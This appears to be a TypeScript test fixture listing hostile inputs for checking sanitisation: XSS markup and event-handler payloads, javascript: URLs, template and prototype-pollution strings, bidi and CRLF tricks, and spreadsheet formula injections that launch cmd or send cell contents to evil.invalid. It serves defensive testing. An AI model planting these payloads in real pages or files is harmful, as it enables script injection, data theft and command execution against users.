/**
 * Texts that somebody could type, import or send to make a page, a mail or a spreadsheet do what
 * they want. Whoever runs one sets `window.__owned`, opens a dialog, asks another origin, or leaves
 * an element that carries `data-owned`: the tests look for all four.
 */
export const hostileTexts: readonly string[] = [
  // Markup that runs by itself.
  `<script data-owned>window.__owned=1</script>`,
  `<ScRiPt data-owned src="//evil.invalid/x.js"></ScRiPt>`,
  `</script><script data-owned>window.__owned=1</script>`,
  `<img data-owned src=x onerror=window.__owned=1>`,
  `"><img data-owned src=//evil.invalid/p onerror="alert(1)">`,
  `'><body data-owned onload=window.__owned=1>`,
  `<svg data-owned onload=window.__owned=1>`,
  `<svg data-owned><script>window.__owned=1</script></svg>`,
  `<svg data-owned><animate onbegin=window.__owned=1 attributeName=x dur=1s>`,
  `<svg data-owned><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<math data-owned><mtext><style><img src=x onerror=window.__owned=1></style></mtext></math>`,
  `<details data-owned open ontoggle=window.__owned=1>x</details>`,
  `<input data-owned autofocus onfocus=window.__owned=1>`,
  `<video data-owned><source onerror=window.__owned=1></video>`,
  `<marquee data-owned onstart=window.__owned=1>x</marquee>`,
  `<iframe data-owned srcdoc="<script>parent.__owned=1</script>"></iframe>`,
  `<object data-owned data="data:text/html,<script>parent.__owned=1</script>"></object>`,
  `<embed data-owned src="//evil.invalid/x.swf">`,
  // Markup that redirects, restyles or collects.
  `<base data-owned href="//evil.invalid/">`,
  `<meta data-owned http-equiv="refresh" content="0;url=//evil.invalid/">`,
  `<link data-owned rel=stylesheet href="//evil.invalid/x.css">`,
  `<style data-owned>@import "//evil.invalid/x.css";*{color:red}</style>`,
  `<form data-owned action="//evil.invalid/"><button>Go</button></form>`,
  `" style="background:url(//evil.invalid/b)" data-owned="`,
  `' onmouseover='window.__owned=1' data-owned='`,
  `<a data-owned href="javascript:window.__owned=1">x</a>`,
  `<template data-owned shadowrootmode=open><script>window.__owned=1</script></template>`,
  `<noscript><p title="</noscript><img data-owned src=x onerror=window.__owned=1>">`,
  `<!--><img data-owned src=x onerror=window.__owned=1>-->`,
  `<![CDATA[<img data-owned src=x onerror=window.__owned=1>]]>`,
  `]]><x data-owned xmlns="http://www.w3.org/1999/xhtml">&#60;script&#62;`,
  // Addresses.
  `javascript:window.__owned=1`,
  ` \tjAvAsCrIpT:window.__owned=1//`,
  `data:text/html,<script data-owned>window.__owned=1</script>`,
  `//evil.invalid/%2e%2e/\\evil.invalid`,
  // Templates and the streams that pages travel in.
  `{{constructor.constructor('window.__owned=1')()}}\${window.__owned=1}<%= 1 %>#{1}`,
  `{count, plural, one {<b data-owned>x</b>} other {#}} {name} '{'`,
  `\\u003cscript data-owned\\u003ewindow.__owned=1\\u003c/script\\u003e"]);window.__owned=1;//`,
  `"])</script><script data-owned>self.__next_f.push([1,"`,
  `$L1 $undefined $@0 $F1 1:{"__proto__":{"owned":1}}`,
  `__proto__[owned]=1&constructor.prototype.owned=1`,
  // Characters that hide or turn the rest.
  `\u202Egnp.exe\u202C\u2066x\u2069\u200B\u200D\uFEFF<img data-owned src=x onerror=window.__owned=1>`,
  `＜script data-owned＞window.__owned=1＜/script＞ %3Cscript%3E &lt;script&gt;`,
  `a\u0301\u0323${"\u0336".repeat(40)} line\u2028window.__owned=1\u2029\u0007\u001B[31m`,
  `first\r\nSet-Cookie: owned=1\r\n\r\n<script data-owned>window.__owned=1</script>`,
  // Formulas.
  `=HYPERLINK("https://evil.invalid/?"&A1,"open")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `\t＝WEBSERVICE("https://evil.invalid/"&A1)`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
];

/** One text that holds one of each kind, for the small count. It begins as a formula. */
export const compositeText = [45, 2, 4, 8, 23, 24, 25, 35, 38, 41]
  .map((index) => hostileTexts[index] ?? "")
  .join(" ");

const markup = hostileTexts.filter((text) => text.startsWith("<"));

/**
 * All of them, in as few fields' worth as possible: markup works wherever it stands, so five of it
 * share a field; what must come first to work (addresses, formulas) has a field for itself.
 */
export const hostileFields: readonly string[] = [
  ...Array.from({ length: Math.ceil(markup.length / 5) }, (_, index) =>
    markup.slice(5 * index, 5 * index + 5).join(" "),
  ),
  ...hostileTexts.filter((text) => !markup.includes(text)),
];

/**
 * Whether a spreadsheet could take a cell's text for a formula. Written apart from the product's own
 * rule, so that they do not share a mistake: blanks and invisible characters fall, wide forms fold.
 */
export function startsFormula(cell: string): boolean {
  if (/^[\t\r\n]/u.test(cell)) return true;
  const seen = cell.normalize("NFKC").replace(/^[\s\p{Cc}\p{Cf}]+/u, "");
  return ["=", "+", "-", "@", "\u2212"].some((sign) => seen.startsWith(sign));
}
